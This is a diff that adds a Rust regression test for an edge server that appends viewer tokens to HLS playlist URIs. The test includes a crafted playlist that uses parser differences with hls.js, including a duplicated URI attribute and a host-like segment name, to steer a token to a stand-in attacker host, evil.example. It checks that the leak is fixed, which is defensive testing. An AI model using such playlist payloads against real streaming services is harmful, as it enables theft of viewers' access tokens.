@@ -517,3 +517,34 @@ async fn invalidations_of_strangers_keys_do_not_forget_every_variant_on_disk() {
         "the variant on disk was forgotten"
     );
 }
+
+/// Bug: the token rewrite read an HLS attribute list otherwise than hls.js: after
+/// `URI="https://evil.example/k"x,` it saw a second, relative `URI="key.bin"` and gave it the
+/// viewer's token, where hls.js reads one value running to the last quote on the line, on
+/// evil.example, and fetched it there with the token. And `1080p:seg1.ts`, relative to the
+/// edge, is absolute to hls.js's url-toolkit (the page's host got the token). Such URIs now get
+/// no token; the player's request for them is refused, not the token leaked.
+#[tokio::test]
+async fn playlist_uris_a_player_reads_as_another_host_get_no_token() {
+    use crate::support::token::{raw_token, token_edge, token_for};
+
+    let origin = Origin::start().await;
+    let playlist = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n\
+#EXT-X-MAP:URI=\"https://evil.example/p\"z,URI=\"init.mp4\"\n\
+#EXT-X-KEY:METHOD=AES-128,URI=\"https://evil.example/k\"x,URI=\"key.bin\"\n\
+#EXTINF:4,\n1080p:seg1.ts\n#EXTINF:4,\nseg2.ts\n#EXT-X-ENDLIST\n";
+    origin.script(
+        "/v/media.m3u8",
+        Script::ok(playlist).header("content-type", "application/vnd.apple.mpegurl"),
+    );
+    let edge = token_edge(&origin, raw_token()).await;
+    let t = token_for("/v/*", None);
+    let r = edge.get(&format!("/v/media.m3u8?hdnts={t}")).await;
+    assert_eq!(r.status.as_u16(), 200);
+    let body = String::from_utf8_lossy(&r.body);
+    for line in body.lines() {
+        let leaks = line.contains("evil.example") || line.starts_with("1080p:");
+        assert!(!(leaks && line.contains("hdnts=")), "{line}");
+    }
+    assert!(body.contains(&format!("seg2.ts?hdnts={t}")), "{body}");
+}
